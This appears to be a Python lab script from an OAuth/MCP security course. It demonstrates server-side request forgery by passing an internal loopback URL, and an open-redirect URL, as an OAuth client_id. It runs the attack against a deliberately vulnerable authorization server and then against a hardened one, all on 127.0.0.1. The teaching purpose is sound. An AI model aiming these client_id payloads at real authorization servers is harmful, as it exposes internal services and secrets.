"""Server-side request forgery through a client ID metadata document, run twice: against an authorization
server that fetches any URL, and against lesson 03's.

    python -m 03-oauth-mcp.labs.metadata_ssrf

The attacker cannot reach an internal service (here, an "admin" page on loopback that stands for a
database console or a cloud metadata address). The authorization server can. So the attacker sends
it an authorization request whose `client_id` is that service's URL, directly or through a redirect
from a public-looking host. Everything runs on 127.0.0.1 and stops at the end.
"""

import html
import re
import tempfile
import threading
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib import import_module
from urllib.parse import urlencode

import httpx2

LESSON = "03-oauth-mcp"
stage = import_module(f"{LESSON}.labs.stage")
SECRET = "db-admin password: hunter2"  # noqa: S105 -- the bait the attacker is after, not a credential


class InternalService:
    """A service only this machine can reach; it counts who asks it for anything."""

    def __init__(self) -> None:
        self.hits = 0
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.hits += 1
                if self.path.startswith("/redirect"):  # an open redirect, one hop away from the secret
                    self.send_response(302)
                    self.send_header("Location", f"http://127.0.0.1:{outer.port}/admin")
                    self.end_headers()
                    return
                body = SECRET.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.http.server_address[1]
        threading.Thread(target=self.http.serve_forever, daemon=True).start()


def authorization_request(authorization_server: str, client_id: str) -> httpx2.Response:
    params = {
        "response_type": "code",
        "client_id": client_id,
        "redirect_uri": "http://127.0.0.1:1/callback",
        "code_challenge": "x" * 43,
        "code_challenge_method": "S256",
        "state": "s",
    }
    return httpx2.get(f"{authorization_server}/authorize?{urlencode(params)}", timeout=10)


def report(server: str, service: InternalService, client_id: str, how: str) -> None:
    before = service.hits
    page = authorization_request(server, client_id)
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page.text)).strip()
    leaked = "the secret" if SECRET in page.text else "nothing of it"
    fetched = "fetched it" if service.hits > before else "did not fetch it"
    print(f"   client_id = {how}: HTTP {page.status_code}; the server {fetched}; the attacker read {leaked}")
    if SECRET in page.text:
        print(f"   the page: {text[:80]}")
    elif reason := re.search(r"<p><small>(.*?)</small></p>", page.text):
        print(f"   the page: {html.unescape(reason.group(1))}")


def main() -> None:
    service = InternalService()
    internal = {
        "the internal URL": f"https://127.0.0.1:{service.port}/admin",
        "a URL that redirects there": f"http://127.0.0.1:{service.port}/redirect/client.json",
    }
    with tempfile.TemporaryDirectory() as state, ExitStack() as stack:
        naive = stack.enter_context(stage.running(f"{LESSON}.labs.metadata_ssrf.vulnerable", stage.free_port()))
        lesson = stack.enter_context(
            stage.running(f"{LESSON}.auth_server", stage.free_port(), "--db", f"{state}/auth.db")
        )
        print("SSRF: the attacker names an internal service as its client_id, to make the server fetch it.")
        print("1. An authorization server that fetches any client_id URL (labs/metadata_ssrf/vulnerable.py):")
        for how, url in internal.items():
            report(naive, service, url.replace("https://", "http://"), how)
        print("2. Lesson 03's authorization server (auth_server/cimd.py, MetadataDocuments):")
        for how, url in internal.items():
            report(lesson, service, url, how)
    service.http.shutdown()


if __name__ == "__main__":
    main()
